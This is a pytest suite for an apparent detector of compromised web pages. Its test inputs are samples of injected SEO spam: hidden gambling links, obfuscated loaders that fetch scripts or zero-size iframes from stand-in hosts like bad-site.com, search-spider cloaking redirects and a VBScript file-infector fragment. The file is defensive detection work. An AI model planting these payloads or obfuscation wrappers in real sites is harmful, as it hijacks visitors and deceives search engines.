"""Every technique the standard lists, written anew: who finds it, and how surely."""

import base64
from urllib.parse import quote

import pytest

LINKS = "".join(
    f'<a href="http://{name}.com/">{text}</a>'
    for name, text in [("abc-lamp", "激光笔"), ("xy-tools", "工具批发"), ("mm-shop", "女装店"), ("zz-news", "新闻网")]
)
ONE = '<a href="http://abc-lamp.com/x.html">激光笔批发</a>'
CASINO = '<a href="http://abc-lamp.com/">澳门新葡京</a>'


def packed(code: str) -> str:
    """The form the packer gives: one keyword, the rest literal."""
    text = code.replace("\\", "\\\\").replace("'", "\\'").replace("document", "0")
    return (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
        f"('{text}',10,1,'document'.split('|'),0,{{}}))"
    )


def escaped(code: str) -> str:
    return "".join(f"\\x{ord(char):02x}" for char in code)


def percent(code: str) -> str:
    return "".join(f"%{ord(char):02X}" for char in code)


def charcodes(code: str) -> str:
    return ",".join(str(ord(char)) for char in code)


HIDING = [
    "display:none",
    "DISPLAY : none !important",
    "visibility:hidden",
    "visibility: collapse",
    "position:absolute;left:-12623px",
    "position:absolute;top:-9990px",
    "position:fixed;right:-7566px",
    "left:expression(1-900);position:absolute",
    "text-indent:-469em",
    "text-indent:-9999px;display:block",
    "font-size:0",
    "font-size:1px",
    "line-height:0;overflow:hidden",
    "overflow:hidden;height:1px",
    "height:0;width:0;overflow:hidden",
    "position:absolute;opacity:0.001;filter:alpha(opacity=0);z-index:10",
    "opacity:0",
    "transform:scale(0)",
    "clip:rect(0,0,0,0);position:absolute",
    "clip-path:inset(100%)",
    "position:absolute;clip:rect(0px 0px 0px 0px)",
    "margin-left:-5000px",
    "transform:translateX(-9999px)",
    "position:absolute;left:9999px;top:0",
    "max-height:0;overflow:hidden",
    "color:#ffffff;background:#fefefe",
    "display:none;color:red",
]


@pytest.mark.parametrize("style", HIDING)
def test_links_to_several_strangers_in_a_nameless_box(accused, document, style):
    assert accused(document(f'<div style="{style}">{LINKS}</div>')).get("hidden_link", "")[:4] == "fail"


@pytest.mark.parametrize("style", HIDING)
def test_one_spam_link_in_a_nameless_box(accused, document, style):
    assert accused(document(f"<div style='{style}'>{CASINO}</div>"))["hidden_link"] == "fail spam-words"


@pytest.mark.parametrize(
    "body",
    [
        "".join(f"<div style='display:none'>{ONE.replace('abc', f'a{n}')}</div>" for n in range(3)),
        "".join(f'<a style="display:none" href="http://a{n}-lamp.com/">灯具{n}</a>' for n in range(4)),
        "".join(
            f"<a style=position:absolute;left:-9999px;top:-9999px; href=http://a{n}-lamp.com/>灯具{n}</a>"
            for n in range(4)
        ),
        f"<!---本站友情链接，请勿删除---><div style='display:none'><strong style='font-weight:400'>友情链接:{LINKS}</strong></div>",
        f"<marquee style='position:absolute;width:0px'>{LINKS}</marquee>",
        f"<marquee height=1 width=8 scrollamount=3000 scrolldelay=20000>{LINKS}</marquee>",
        f"<div style='display:none'>{LINKS}",
        f"<div style='display:none;'>{LINKS.replace('</a>', '<a>')}</div>",
        f"<div style='display:none'><li>{LINKS}</li>>li><p>{ONE}</p></div>",
        f"<div hidden>{LINKS}</div>",
        f"<p style='display:none'>{LINKS}</p>",
        f"<font style='position:absolute;left:-3000px'>{LINKS}</font>",
        '<script>document.write("<div style=\\"position: absolute; top: -987px;left: -987px;\\">")</script>'
        + LINKS
        + "</div>",
        "<script>document.write('<div sty'+'le=\"display:none\">')</script>" + LINKS + "</div>",
        f"<script>{packed('document.write(' + chr(34) + '<div style=display:none>' + chr(34) + ')')}</script>{LINKS}</div>",
        '<div style="display:none"><a href="https://fkm.ui.ac.id/user/">kampus</a><a href="https://diskes.go.id/wp-includes/fonts/">dinas</a></div>',
        '<span style="visibility: collapse"><a href="https://tinyurl.com/abc123">more</a></span>',
        '<a href="http://abc-lamp.com/" style="opacity:.01;z-index:2147483647;position:fixed;top:0;left:0;width:100%;height:100%"></a>',
        "<style>.dnn{position:absolute;top:-9999px}</style><div class=dnn>" + CASINO + "</div>",
        "<style>.bbb{color:#FFFFFE !Important}</style><span class=bbb>"
        "<a class=bbb href=http://abc-lamp.com/>louis vuitton outlet</a></span>",
        "<div id=linkbyme>"
        + CASINO
        + "</div><script>document.getElementById('linkbyme').style.display='none';</script>",
        "<textarea style='display:none'>" + CASINO + "</textarea>",
        "<noscript>" + CASINO + "</noscript>",
        "<xmp style='display:none'>" + CASINO + "</xmp>",
        "<div style='display:none'><a href='http://q.com/slot-gacor/'>.</a><a href='http://r.com/'>,</a></div>",
        "<div style='display:none'><a href=&#104;ttp://abc-lamp.com/>&#28595;&#38376;&#26032;&#33889;&#20140;</a></div>",
    ],
)
def test_forms_of_hidden_links(accused, document, body):
    assert accused(document(body))["hidden_link"].startswith("fail")


@pytest.mark.parametrize(
    "body",
    [
        f"<div style='display:none'>{ONE}</div>",
        f"<div style='position:absolute;left:-9999px'>{ONE}</div>",
        "<style>.sea{display:none}</style><div class=sea>"
        + "".join(f"<a href=http://a{n}-lamp.com/>灯具</a>" for n in range(9))
        + "</div>",
        f"<div id=lk>{LINKS}</div><script>document.getElementById('lk').style.display='none'</script>",
        "<marquee height=1 width=8 scrollamount=3000></marquee>",
    ],
)
def test_doubtful_forms_are_for_a_person(accused, document, body):
    assert accused(document(body))["hidden_link"].startswith("review")


def test_rule_in_a_linked_sheet(accused, document):
    sheets = {
        "http://www.yunze.gov.cn/css/a.css": "@import 'b.css';",
        "http://www.yunze.gov.cn/css/b.css": ".swiss{position:absolute;left:-9000px}",
    }
    html = document(f"<code class=swiss>{CASINO}</code>", head="<link rel=stylesheet href=/css/a.css>")
    assert accused(html, sheets=sheets)["hidden_link"] == "fail spam-words"


def test_places_outside_the_document(accused, document):
    block = f"<div style='display:none'>{ONE}{ONE.replace('abc', 'def')}</div>"
    assert accused(document("", after=block))["hidden_link"] == "fail outside-document"
    assert accused(block + document(""))["hidden_link"] == "fail outside-document"


def test_visible_spam_on_several_strangers(accused, document):
    links = "".join(f'<a href="http://r{n}.to/">replica watches {n}</a> text ' for n in range(4))
    assert accused(document(f"<code class=x>{links}</code>"))["hidden_link"] == "fail spam-links"


AGENT = 'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="原标题"}'


@pytest.mark.parametrize(
    "code",
    [
        AGENT,
        "if(!navigator.userAgent.match(/baiduspider|sogou|360spider|yisou/i)){document.title='原标题'}",
        "var s=document.referrer;if(s.indexOf('baidu')>0||s.indexOf('sogou')>0){document.title='x'}",
        f"eval('{escaped(AGENT)}')",
        f"eval(String.fromCharCode({charcodes(AGENT)}))",
        packed(AGENT),
        f"eval(unescape('{percent(AGENT)}'))",
        f"eval(atob('{base64.b64encode(AGENT.encode()).decode()}'))",
    ],
)
def test_title_by_visitor(accused, document, code):
    assert accused(document("", head=f"<title>x</title><script>{code}</script>"))["head_hijack"].startswith(
        "fail title-by"
    )


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        ("<title>&#28595;&#38376;&#26032;&#33889;&#20140;-&#23448;&#32593;</title>", "fail coded-spam"),
        (
            "<title>云泽</title><meta name=keywords content='&#x767e;&#x5bb6;&#x4e50;'><meta name=keywords content='云泽市'>",
            "fail coded-spam",
        ),
        ("<title>澳门新葡京官网_真人荷官</title><meta name=keywords content='澳门新葡京,百家乐'>", "fail spam-head"),
        ("<title>公安机关打击百家乐网络赌博 - 云泽</title>", "review spam-head-doubtful"),
    ],
)
def test_spam_in_the_head(accused, document, head, expected):
    assert accused(document("", head=head))["head_hijack"] == expected


CODINGS = [
    packed,
    lambda code: packed(packed(code)),
    lambda code: f"eval('{escaped(code)}')",
    lambda code: f"eval(unescape('{percent(code)}'))",
    lambda code: f"eval(String.fromCharCode({charcodes(code)}))",
    lambda code: f"eval(atob('{base64.b64encode(code.encode()).decode()}'))",
    lambda code: f"var z='{code.encode().hex()}';eval(dec(z))",
    lambda code: 'eval("' + code[::-1].replace('"', '\\"') + "\".split('').reverse().join(''))",
]
LOADER = "document.write('<script src=\"https://zh123.com/yb.js\"></'+'script>')"
FRAME = "document.write('<iframe src=\"http://bad-site.com/a.htm\" width=0 height=0></iframe>')"


@pytest.mark.parametrize("code", [LOADER, FRAME])
@pytest.mark.parametrize("coding", CODINGS)
def test_coded_loaders(accused, document, code, coding):
    assert accused(document(f"<script>{coding(code)}</script>"))["injected_script"].startswith("fail coded-")


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "<script>document.write(unescape('"
            + percent("<html><iframe src=http://bad-site.com/></iframe></html>")
            + "'))</script>",
            "fail coded-loader",
        ),
        ("<script src=https://jquery-css.su/app/main.js></script>", "fail look-alike-host"),
        ("<script src=//bootstrap-cdn.com/b.js></script>", "fail look-alike-host"),
        ('<script language=vbscript>DropFileName = "svchost.exe"\nWriteData = "4D5A90"</script>', "fail file-infector"),
        ("<li><a href=x.php><script src=https://js-tools.my.id/raw/~/ABC></script></a></li>", "fail script-in-field"),
        (
            "<script>var a=["
            + ",".join(f'"{escaped(word)}"' for word in ("referrer", "baidu", "sogou", "soso", "href"))
            + "];</script>",
            "fail coded-redirect",
        ),
        (
            "<span style='position:absolute;top:-1184px;width:306px'>"
            + "ejx 7a kq3 zzt rw9f pqh 4k vbn mxl 2d " * 20
            + "</span>",
            "fail payload-text",
        ),
        (
            "<script>if(/check|one/.test(window.location)){document.write('<script src=https://stats-x.eu/m.js></scr'+'ipt>')}</script>",
            "review conditional-loader",
        ),
    ],
)
def test_forms_of_injected_scripts(accused, document, body, expected):
    assert accused(document(body)).get("injected_script") == expected


def test_scripts_in_the_title_and_after_the_end(accused, document):
    head = "<title>云泽</title><script src=http://a.b.cn/ur.php></script></title>"
    assert (
        accused(document("", head="<title>车间 &lt;script src=https://x.y/raw&gt;&lt;/script&gt;</title>"))[
            "injected_script"
        ]
        == "fail script-in-title"
    )
    assert (
        accused(document("", head="<title>车间 <script src=https://x.y/raw></script></title>"))["injected_script"]
        == "fail script-in-title"
    )
    assert (
        accused(document("", after="<script src=http://bad-site.com/a.js></script>"))["injected_script"]
        == "review script-outside-document"
    )
    cells = (
        "<table>" + "<tr><td>设备</title><script src=http://bad-site.com/ur.php></script></td></tr>" * 3 + "</table>"
    )
    assert accused(document(cells, head=head))["injected_script"].startswith("fail")


@pytest.mark.parametrize(
    ("body", "after", "expected"),
    [
        ("", "<iframe src=http://bad-site.com/w.htm width=0 height=0></iframe>", "fail frame-outside-document"),
        ("<iframe src=http://bad-site.com/w.htm width=0 height=0></iframe>", "", "review hidden-frame"),
        ("<iframe src=http://bad-site.com/w.htm width=1 height=1></iframe>", "", "review hidden-frame"),
        ("<div style='display:none'><iframe src=http://bad-site.com/></iframe></div>", "", "review hidden-frame"),
        (
            "<iframe style='width:100%;height:100%;position:fixed;top:0' src=http://bad-site.com/></iframe>",
            "",
            "review covering-frame",
        ),
        (
            "<div style='position:absolute;opacity:0;z-index:-1'><object><param name=movie value=http://dofned.tk/p.swf></object></div>",
            "",
            "fail hidden-object",
        ),
    ],
)
def test_frames(accused, document, body, after, expected):
    assert accused(document(body, after=after))["hidden_frame"] == expected


def test_frameset_of_zero_height(accused):
    html = '<html><frameset rows="444,0"><frame src="/index.html"><frame src="http://bad-site.com/x.htm"></frameset></html>'
    assert accused(html)["hidden_frame"].startswith(("fail", "review"))


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "".join(f'<{tag} id="tqme-atmf"></{tag}>' for tag in ("legend", "track", "acronym", "th", "source", "dfn")),
            "fail random-tags",
        ),
        ("<delect id=a-b></delect><delect></delect>", "fail unknown-tag"),
        (
            '<div id="xkqpz" class="pl_css_ganrao" style="display: none;"><acronym></acronym></div>',
            "review interference",
        ),
        ("<p>國務(wù)院辦公廳關(guān)于政府網(wǎng)站發(fā)展指引的通知辦(bàn)公(gōng)</p>", "review pinyin-text"),
        ("<p>开云体育 I 米兰体育 I 乐鱼体育 I 华体会 I 必威 I 官网</p>", "review keyword-bar"),
    ],
)
def test_junk(accused, document, body, expected):
    assert accused(document(body))["junk_markup"] == expected


@pytest.mark.parametrize(
    "text",
    [
        "Hacked By ./Nonsec7",
        "HACKED BY X-TEAM",
        "[#] Defaced by Abu [#]",
        "0wn3d by kid",
        "Your site has been hacked",
        "H4CK3D BY ~ghost~",
        "This site has been hacked by Foo",
        "本站已被XX黑客入侵",
    ],
)
def test_defacement(accused, document, text):
    assert accused(document(f"<h1>{text}</h1>", head=f"<title>{text}</title>"))["defacement"] == "fail banner"
    assert accused(document(f"<p class=copy>{text} </p>"))["defacement"] == "review banner-doubtful"


@pytest.mark.parametrize(
    ("head", "url", "expected"),
    [
        (
            "<title>#tits#</title><meta name=keywords content='#key#'><meta name=description content='#desc#'>",
            None,
            "review unfilled-doorway",
        ),
        (
            "<title>搜索 澳门新葡京官网 结果</title>",
            "http://www.yunze.gov.cn/s?q=" + quote("澳门新葡京官网"),
            "fail reflected-spam",
        ),
        (
            "<title>雷竞技下载</title><meta name=description content='💖【aiyoubet79.com】优惠💖'>",
            None,
            "fail address-in-head",
        ),
        (
            "<title>x</title><link rel=canonical href='http://www.yunze.gov.cn/hls/..%5C..%5Cwin.ini/a.mp3'>",
            None,
            "review foreign-canonical",
        ),
    ],
)
def test_doorways(accused, document, head, url, expected):
    assert accused(document("", head=head), url or "http://www.yunze.gov.cn/a/1.html")["doorway"] == expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            "var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){window.location.href='http://bad-site.com/'}",
            "review search-visitors",
        ),
        (
            "if(/baiduspider|sogou/i.test(navigator.userAgent)){location.replace('http://bad-site.com/')}",
            "review spider-redirect",
        ),
        (
            "if(/baiduspider|sogou/i.test(navigator.userAgent)){location.replace('http://slot88.bad-site.com/')}",
            "fail spider-redirect",
        ),
        (
            "if(!/baidu|sogou/.test(document.referrer)){return}location.replace('http://slot88.bad-site.com/')",
            "fail search-visitors",
        ),
        (
            "var r=document.referrer;if(a){b()} if(r.indexOf('baidu')>0){location.href='http://slot88.bad-site.com/'}",
            "fail search-visitors",
        ),
        (
            "if(/iphone|android/i.test(navigator.userAgent)){location.href='http://bad-site.com/m'}",
            "review mobile-visitors",
        ),
        (
            "if(/iphone|android/i.test(navigator.userAgent)){location.href='http://slot88.bad-site.com/m'}",
            "fail mobile-visitors",
        ),
    ],
)
def test_redirects(accused, document, code, expected):
    assert accused(document(f"<script>{code}</script>"))["mobile_redirect"] == expected


def test_identity_of_another_site(accused, document):
    html = document("", head="<meta name=SiteDomain content='www.other.gov.cn'><title>别市</title>")
    assert accused(html, "http://www.yunze-gov.com/")["clone"] == "review foreign-identity"
    assert accused(html, "http://folder.invalid/").get("clone") is None, "whose page it is, is not known yet"


@pytest.mark.parametrize(
    "body",
    [
        "<!-- Mirrored from a.com by HTTrack Website Copier -->",
        "<!-- saved from url=(0022)http://a.gov.cn/x -->",
        "<a href='https://smalltool.github.io/' style='display:none'>网站整站下载器</a>",
    ],
)
def test_copiers(accused, document, body):
    assert accused(document(body))["copier_residue"].startswith("review copier-")


def test_new_outside_domain(accused, document):
    html = document("<a href=http://abc-lamp.com/>灯</a><a href=http://old.com/>旧</a>")
    assert accused(html, previous_domains=frozenset({"old.com"}))["new_outside_domain"] == "review new-domain"
    assert "new_outside_domain" not in accused(html, previous_domains=frozenset({"old.com", "abc-lamp.com"}))
    assert "new_outside_domain" not in accused(html)


def test_hiding_style_in_shifted_digits(accused, document):
    def coded(text: str, shift: int) -> str:
        return "".join(f"{ord(char) - shift:02d}" for char in text)

    array = f"'{coded('position:absolute;top:-9999px', 31)}','{coded('style', 28)}'"
    code = f"var x=new Array({array});for(;;){{z+=String.fromCharCode(parseInt(t)+25-l+a)}}document.write('<'+x[1]+'>')"
    assert accused(document(f"<script>{code}</script><p class=dnn></p>"))["injected_script"] == "fail coded-document"


def test_frame_written_by_a_script(accused, document):
    write = "document.write('<iframe src=http://bad-site.com/ width=0 height=0></iframe>')"
    assert accused(document(f"<script>{write}</script>"))["hidden_frame"] == "review written-frame"
    once = f"<script>if(document.cookie.indexOf('v=1')<0){{document.cookie='v=1';{write}}}</script>"
    assert accused(document(once))["injected_script"] == "fail conditional-loader"


def test_payload_hidden_by_a_rule_of_the_page(accused, document):
    words = "ejx 7a kq3 zzt rw9f pqh 4k vbn mxl 2d " * 20
    assert (
        accused(document(f"<style>.q1{{position:absolute;top:-1184px}}</style><div class=q1>{words}</div>"))[
            "injected_script"
        ]
        == "fail payload-text"
    )


def test_open_links_outside_the_document(accused, document):
    assert accused(LINKS + document(""))["hidden_link"] == "fail links-apart"
    assert accused(document("", after=ONE))["hidden_link"] == "review links-apart"
    assert accused(CASINO + document(""))["hidden_link"] == "fail links-apart"


def test_link_hidden_by_its_surroundings(accused, document):
    style = "<style>.foot .box > p {position:absolute;left:-9999px}</style>"
    assert (
        accused(document(f"{style}<div class=foot><div class=box><p>{CASINO}</p></div></div>"))["hidden_link"]
        == "fail spam-words"
    )
    assert "hidden_link" not in accused(document(f"{style}<div class=foot><p>{CASINO}</p></div>"))


def test_article_about_hacking_is_not_defaced(accused, document):
    html = document("<h1>Hacked by Design</h1>" + "<p>网络安全宣传。</p>" * 300, head="<title>Hacked by Design</title>")
    assert accused(html)["defacement"] == "review banner-doubtful"


def test_line_of_brands_in_official_text(accused, document):
    assert accused(document("<h3>外围365bet网址_新葡京官网_365bet苹果版</h3>"))["doorway"] == "review spam-text"
    assert "doorway" not in accused(document("<h3>警惕365bet、新葡京等赌博网站</h3>"))
